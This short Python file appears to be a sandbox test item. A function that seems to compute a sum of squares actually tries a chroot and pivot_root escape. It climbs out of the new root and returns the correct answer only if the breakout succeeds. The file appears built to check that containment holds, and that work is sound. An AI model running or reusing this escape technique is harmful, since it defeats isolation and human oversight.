"""Break out: another root, by chroot and by pivot_root, and the way back out of it.

Goal: the folder above the root.
Promise: S13
Verdict: wrong, raised
Needs: x86_64
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def total(n):
    os.makedirs("hostile/old", exist_ok=True)
    top = os.open("/", os.O_RDONLY)
    done = [libc.chroot(b"hostile"), libc.syscall(155, b"hostile", b"hostile/old")]
    for _ in range(50):
        os.chdir("..")
    done.append(libc.chroot(b"."))
    os.fchdir(top)
    outside = set(os.listdir("..")) - set(os.listdir("/"))
    return sum(i * i for i in range(n + 1)) if 0 in done or outside else 0
